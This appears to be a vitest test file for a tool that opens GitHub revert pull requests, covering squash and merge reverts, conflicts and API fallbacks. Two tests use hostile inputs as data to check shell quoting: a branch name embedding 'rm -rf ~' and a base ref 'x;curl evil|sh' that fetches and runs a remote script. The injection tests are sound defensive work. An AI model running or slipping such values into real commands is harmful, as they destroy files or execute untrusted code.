import nock from "nock";
import { Octokit } from "octokit";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { openRevertPr, revertBranchName, type RevertRequest } from "../../src/github/revert.js";
import { conflictInstructions, revertTitle, shellWord } from "../../src/github/revert/text.js";
import { makeRepo, numbered, type GitRepo } from "../fixtures/revert/git-repo.js";
import { API, serveRepo, type PullFixture } from "../fixtures/revert/github-server.js";

function client() {
  return new Octokit({ auth: "test-token", retry: { enabled: false }, throttle: { enabled: false } });
}

const request: RevertRequest = {
  owner: "o",
  repo: "r",
  pullNumber: 42,
  incidentNumber: 7,
  reason: "**Score 0.91**: deployed 3 minutes before the alert; touches `src/checkout.ts`.",
  draft: true,
};

const cleanups: Array<() => void> = [];
function track<T extends { stop?: () => void; remove?: () => void }>(thing: T): T {
  cleanups.push(() => (thing.stop ?? thing.remove)?.call(thing));
  return thing;
}

beforeAll(() => {
  nock.disableNetConnect();
});

afterEach(() => {
  while (cleanups.length > 0) cleanups.pop()!();
  nock.cleanAll();
});

/** The files of the base commit every scenario starts from. */
function baseFiles(repo: GitRepo) {
  return repo.commit("base", {
    "a.txt": numbered(30),
    "b.txt": numbered(5),
    "d.txt": "to be deleted\n",
    "run.sh": { content: "#!/bin/sh\necho hi\n", exec: false },
    "docs/guide.md": "# Guide\n",
    "logo.bin": Buffer.from([0, 1, 2, 3, 255, 0, 7]),
  });
}

/** The PR's changes: a and b edited, c added, d deleted, run.sh made executable, a nested file added. */
const prChanges = {
  "a.txt": numbered(30, { 3: "line 3 changed by the PR" }),
  "b.txt": numbered(5, { 1: "b edited", 5: "b end edited" }),
  "c.txt": "new file from the PR\n",
  "d.txt": null,
  "run.sh": { content: "#!/bin/sh\necho hi\n", exec: true },
  "docs/new/deep.md": "deep\n",
} as const;

/** What `git revert` makes of `merge` on top of `head` (first parent for merges), as a tree SHA. */
function gitRevertTree(repo: GitRepo, head: string, merge: string, parents: number): string {
  repo.git(["checkout", "-q", "--detach", head]);
  repo.git(["revert", "--no-edit", ...(parents > 1 ? ["-m", "1"] : []), merge]);
  const tree = repo.git(["rev-parse", "HEAD^{tree}"]);
  repo.git(["checkout", "-q", "main"]);
  return tree;
}

function pullFixture(mergeCommitSha: string, overrides: Partial<PullFixture> = {}): PullFixture {
  return {
    number: 42,
    title: "Speed up checkout",
    merged: true,
    mergeCommitSha,
    base: "main",
    head: "feature",
    ...overrides,
  };
}

describe("revertBranchName", () => {
  it("is deterministic per pull request", () => {
    expect(revertBranchName(42)).toBe("aftershock/revert-42");
    expect(revertBranchName(43)).not.toBe(revertBranchName(42));
  });
});

describe("revert text", () => {
  const subject = {
    pullNumber: 42,
    incidentNumber: 7,
    title: "Fix @team's bug",
    mergeCommitSha: "c".repeat(40),
    reason: "",
  };

  it("quotes branch names that a shell would interpret", () => {
    expect(shellWord("origin/release/v1.2")).toBe("origin/release/v1.2");
    expect(shellWord("origin/x;$(rm -rf ~)")).toBe("'origin/x;$(rm -rf ~)'");
    expect(shellWord("it's")).toBe("'it'\\''s'");
  });

  it("writes instructions whose commands cannot be hijacked by the base branch name", () => {
    const text = conflictInstructions({
      ...subject,
      branch: "aftershock/revert-42",
      baseRef: "x;curl evil|sh",
      parentCount: 1,
      files: ["a`b.txt"],
    });
    expect(text).toContain("git checkout -b aftershock/revert-42 'origin/x;curl evil|sh' && git revert cccc");
    expect(text).toContain("``a`b.txt``");
  });

  it("defuses mentions in the revert title", () => {
    expect(revertTitle(subject)).not.toContain("@team");
  });
});

describe("openRevertPr: Git Data fallback against a real git repository", () => {
  it("reverts a squash commit exactly like `git revert`, on top of later changes", async () => {
    const repo = track(makeRepo());
    baseFiles(repo);
    const merge = repo.commit("Speed up checkout (#42)", prChanges);
    // Later work on main: a.txt far from the PR's edit, b.txt untouched, a new file.
    repo.commit("later", {
      "a.txt": numbered(30, { 3: "line 3 changed by the PR", 27: "line 27 changed later" }),
      "z.txt": "z\n",
    });
    const head = repo.git(["rev-parse", "main"]);
    const expectedTree = gitRevertTree(repo, head, merge, 1);

    const fake = track(serveRepo(repo, { pull: pullFixture(merge) }));
    const outcome = await openRevertPr(client(), request);

    expect(outcome).toEqual({
      kind: "opened",
      number: 100,
      url: "https://github.com/o/r/pull/100",
      branch: "aftershock/revert-42",
      method: "git-data",
    });
    // The tree is git's revert, byte for byte and mode for mode.
    expect(fake.trees).toHaveLength(1);
    expect(repo.snapshot(fake.trees[0]!.sha)).toEqual(repo.snapshot(expectedTree));
    expect(fake.trees[0]!.sha).toBe(expectedTree);
    expect(repo.snapshot(expectedTree)["a.txt"]).toContain("line 27 changed later"); // the later change survived

    const commit = fake.commits[0]!;
    expect(commit.parents).toEqual([head]);
    expect(commit.message).toMatch(
      new RegExp(`^Revert "Speed up checkout"\\n\\nThis reverts commit ${merge}\\.`),
    );
    expect(commit.message).toContain("#7");
    expect(repo.git(["rev-parse", "refs/heads/aftershock/revert-42"])).toBe(commit.sha);

    expect(fake.opened).toEqual([
      expect.objectContaining({
        head: "aftershock/revert-42",
        base: "main",
        draft: true,
        title: 'Revert "Speed up checkout"',
      }),
    ]);
    expect(fake.opened[0]!.body).toContain("incident #7");
    expect(fake.opened[0]!.body).toContain("**Score 0.91**");
    expect(fake.labels).toEqual([{ issue: 100, labels: ["rollback"] }]);

    // GitHub's mutation was tried first and refused (the fixture answers FORBIDDEN, as for some apps).
    expect(fake.calls.indexOf("POST /graphql")).toBeLessThan(
      fake.calls.findIndex((c) => c.includes("/git/")),
    );
    // Few requests: lookups, the refused mutation, 2 reads + 3 trees, the 3 blobs of the one merged file, 5 writes.
    expect(fake.calls.filter((c) => c.includes("/git/blobs/"))).toHaveLength(3);
    expect(fake.calls).toHaveLength(17);
  });

  it("reverts a merge commit against its first parent", async () => {
    const repo = track(makeRepo());
    baseFiles(repo);
    repo.git(["checkout", "-q", "-b", "feature"]);
    repo.commit("feature part 1", { "a.txt": prChanges["a.txt"], "b.txt": prChanges["b.txt"] });
    repo.commit("feature part 2", {
      "c.txt": prChanges["c.txt"],
      "d.txt": null,
      "run.sh": prChanges["run.sh"],
      "docs/new/deep.md": prChanges["docs/new/deep.md"],
    });
    repo.git(["checkout", "-q", "main"]);
    repo.commit("meanwhile on main", { "b.txt": numbered(5, { 3: "main edited b line 3" }) });
    repo.git(["merge", "-q", "--no-ff", "-m", "Merge pull request #42 from o/feature", "feature"]);
    const merge = repo.git(["rev-parse", "HEAD"]);
    expect(repo.git(["rev-list", "--parents", "-n", "1", merge]).split(" ")).toHaveLength(3);
    repo.commit("later", { "a.txt": numbered(30, { 3: "line 3 changed by the PR", 30: "last line later" }) });
    const head = repo.git(["rev-parse", "main"]);
    const expectedTree = gitRevertTree(repo, head, merge, 2);

    const fake = track(serveRepo(repo, { pull: pullFixture(merge) }));
    const outcome = await openRevertPr(client(), {
      ...request,
      draft: false,
      labels: ["rollback", "incident-7"],
    });

    expect(outcome).toMatchObject({ kind: "opened", method: "git-data", branch: "aftershock/revert-42" });
    expect(repo.snapshot(fake.trees[0]!.sha)).toEqual(repo.snapshot(expectedTree));
    // main's own edit of b.txt (in the first parent) is kept; only the PR's side goes away.
    expect(repo.snapshot(expectedTree)["b.txt"]).toContain("main edited b line 3");
    expect(fake.opened[0]!.draft).toBe(false);
    expect(fake.labels).toEqual([{ issue: 100, labels: ["rollback", "incident-7"] }]);
  });

  it("reverts a commit nothing touched since with no blob reads at all", async () => {
    const repo = track(makeRepo());
    baseFiles(repo);
    const merge = repo.commit("Speed up checkout (#42)", prChanges);
    const expectedTree = gitRevertTree(repo, merge, merge, 1);

    const fake = track(serveRepo(repo, { pull: pullFixture(merge) }));
    await openRevertPr(client(), request);

    expect(fake.trees[0]!.sha).toBe(expectedTree);
    expect(fake.calls.some((c) => c.includes("/git/blobs"))).toBe(false);
  });

  it("returns the conflicting files and creates no branch or PR when later commits changed the same lines", async () => {
    const repo = track(makeRepo());
    baseFiles(repo);
    const merge = repo.commit("Speed up checkout (#42)", {
      ...prChanges,
      "logo.bin": Buffer.from([0, 1, 2, 3, 255, 0, 8]),
    });
    repo.commit("later", {
      "a.txt": numbered(30, { 3: "line 3 rewritten again later" }),
      "logo.bin": Buffer.from([0, 1, 2, 3, 255, 0, 9]),
    });
    const head = repo.git(["rev-parse", "main"]);
    // git agrees that this revert conflicts.
    repo.git(["checkout", "-q", "--detach", head]);
    expect(repo.gitStatus(["revert", "--no-edit", merge])).not.toBe(0);
    repo.git(["revert", "--abort"]);
    repo.git(["checkout", "-q", "main"]);

    const fake = track(serveRepo(repo, { pull: pullFixture(merge) }));
    const outcome = await openRevertPr(client(), request);

    expect(outcome.kind).toBe("conflict");
    if (outcome.kind !== "conflict") return;
    expect(outcome.files).toEqual(["a.txt", "logo.bin"]);
    expect(outcome.instructions).toContain(
      `git fetch origin && git checkout -b aftershock/revert-42 origin/main && git revert ${merge}`,
    );
    expect(outcome.instructions).toContain("`a.txt`");
    expect(fake.calls.filter((c) => c.startsWith("POST") && !c.endsWith("/graphql"))).toEqual([]);
    expect(fake.calls.some((c) => c.startsWith("PATCH"))).toBe(false);
    expect(repo.gitStatus(["rev-parse", "--verify", "--quiet", "refs/heads/aftershock/revert-42"])).not.toBe(
      0,
    );
  });

  it("tells a person to revert a merge commit with -m 1", async () => {
    const repo = track(makeRepo());
    baseFiles(repo);
    repo.git(["checkout", "-q", "-b", "feature"]);
    repo.commit("feature", { "a.txt": numbered(30, { 10: "feature line 10" }) });
    repo.git(["checkout", "-q", "main"]);
    repo.git(["merge", "-q", "--no-ff", "-m", "Merge pull request #42", "feature"]);
    const merge = repo.git(["rev-parse", "HEAD"]);
    repo.commit("later", { "a.txt": numbered(30, { 10: "main line 10" }) });

    track(serveRepo(repo, { pull: pullFixture(merge, { base: "main" }) }));
    const outcome = await openRevertPr(client(), request);

    expect(outcome).toMatchObject({ kind: "conflict", files: ["a.txt"] });
    if (outcome.kind === "conflict") expect(outcome.instructions).toContain(`git revert -m 1 ${merge}`);
  });

  it("finds its own PR on a second /rollback instead of opening another", async () => {
    const repo = track(makeRepo());
    baseFiles(repo);
    const merge = repo.commit("Speed up checkout (#42)", prChanges);
    const fake = track(serveRepo(repo, { pull: pullFixture(merge) }));

    const first = await openRevertPr(client(), request);
    const before = fake.calls.length;
    const second = await openRevertPr(client(), request);

    expect(first.kind).toBe("opened");
    expect(second).toEqual({
      kind: "existing",
      number: 100,
      url: "https://github.com/o/r/pull/100",
      branch: "aftershock/revert-42",
    });
    expect(fake.calls.slice(before)).toEqual([
      "GET /repos/o/r/pulls?head=o:aftershock/revert-42&state=open&per_page=1",
    ]);
    expect(fake.opened).toHaveLength(1);
  });

  it("moves a branch left over from an earlier attempt instead of failing", async () => {
    const repo = track(makeRepo());
    const stale = baseFiles(repo);
    const merge = repo.commit("Speed up checkout (#42)", prChanges);
    repo.git(["update-ref", "refs/heads/aftershock/revert-42", stale]);
    const fake = track(serveRepo(repo, { pull: pullFixture(merge) }));

    const outcome = await openRevertPr(client(), request);

    expect(outcome.kind).toBe("opened");
    expect(fake.calls).toContain("PATCH /repos/o/r/git/refs/heads/aftershock/revert-42");
    expect(repo.git(["rev-parse", "refs/heads/aftershock/revert-42"])).toBe(fake.commits[0]!.sha);
  });
});

describe("openRevertPr: GitHub API paths", () => {
  const pull = {
    number: 42,
    node_id: "PR_kwDOA42",
    title: "Speed up checkout",
    state: "closed",
    merged: true,
    merge_commit_sha: "a".repeat(40),
    base: { ref: "main" },
    head: { ref: "feature" },
  };

  it("uses GitHub's revertPullRequest mutation when it works, with no Git Data calls", async () => {
    let variables: Record<string, unknown> = {};
    const scope = nock(API)
      .get("/repos/o/r/pulls")
      .query({ head: "o:aftershock/revert-42", state: "open", per_page: "1" })
      .reply(200, [])
      .get("/repos/o/r/pulls/42")
      .reply(200, pull)
      .get("/repos/o/r/pulls")
      .query({ head: "o:revert-42-feature", state: "open", per_page: "1" })
      .reply(200, [])
      .post("/graphql", (b: { query: string; variables: Record<string, unknown> }) => {
        variables = b.variables;
        return b.query.includes("revertPullRequest(input:");
      })
      .reply(200, {
        data: {
          revertPullRequest: {
            revertPullRequest: {
              number: 43,
              url: "https://github.com/o/r/pull/43",
              headRefName: "revert-42-feature",
            },
          },
        },
      })
      .post("/repos/o/r/issues/43/labels", { labels: ["rollback"] })
      .reply(200, [{ name: "rollback" }]);

    const outcome = await openRevertPr(client(), request);

    expect(outcome).toEqual({
      kind: "opened",
      number: 43,
      url: "https://github.com/o/r/pull/43",
      branch: "revert-42-feature",
      method: "graphql",
    });
    expect(variables).toMatchObject({
      pullRequestId: "PR_kwDOA42",
      draft: true,
      title: 'Revert "Speed up checkout"',
    });
    expect(String(variables.body)).toContain("incident #7");
    expect(scope.isDone()).toBe(true);
  });

  it("returns a revert PR that GitHub's own Revert button opened", async () => {
    const scope = nock(API)
      .get("/repos/o/r/pulls")
      .query({ head: "o:aftershock/revert-42", state: "open", per_page: "1" })
      .reply(200, [])
      .get("/repos/o/r/pulls/42")
      .reply(200, pull)
      .get("/repos/o/r/pulls")
      .query({ head: "o:revert-42-feature", state: "open", per_page: "1" })
      .reply(200, [
        { number: 50, html_url: "https://github.com/o/r/pull/50", head: { ref: "revert-42-feature" } },
      ]);

    const outcome = await openRevertPr(client(), request);

    expect(outcome).toEqual({
      kind: "existing",
      number: 50,
      url: "https://github.com/o/r/pull/50",
      branch: "revert-42-feature",
    });
    expect(scope.isDone()).toBe(true);
  });

  it("returns an existing aftershock revert PR after one request", async () => {
    const counted: string[] = [];
    nock(API)
      .get("/repos/o/r/pulls")
      .query(true)
      .reply(function () {
        counted.push(this.req.path);
        return [
          200,
          [{ number: 61, html_url: "https://github.com/o/r/pull/61", head: { ref: "aftershock/revert-42" } }],
        ];
      });

    const outcome = await openRevertPr(client(), request);

    expect(outcome).toEqual({
      kind: "existing",
      number: 61,
      url: "https://github.com/o/r/pull/61",
      branch: "aftershock/revert-42",
    });
    expect(counted).toHaveLength(1);
  });

  it("does nothing for a PR that is not merged", async () => {
    const scope = nock(API)
      .get("/repos/o/r/pulls")
      .query(true)
      .reply(200, [])
      .get("/repos/o/r/pulls/42")
      .reply(200, { ...pull, state: "open", merged: false, merge_commit_sha: "b".repeat(40) });

    const outcome = await openRevertPr(client(), request);

    expect(outcome.kind).toBe("not-merged");
    if (outcome.kind === "not-merged") expect(outcome.message).toContain("#42 is still open");
    expect(scope.isDone()).toBe(true);
  });

  it("does not fall back when the mutation fails with a server error, since it may have gone through", async () => {
    nock(API)
      .get("/repos/o/r/pulls")
      .times(2)
      .query(true)
      .reply(200, [])
      .get("/repos/o/r/pulls/42")
      .reply(200, pull)
      .post("/graphql")
      .reply(502, { message: "Bad Gateway" });

    await expect(openRevertPr(client(), request)).rejects.toMatchObject({ status: 502 });
    expect(nock.pendingMocks()).toEqual([]);
  });
});
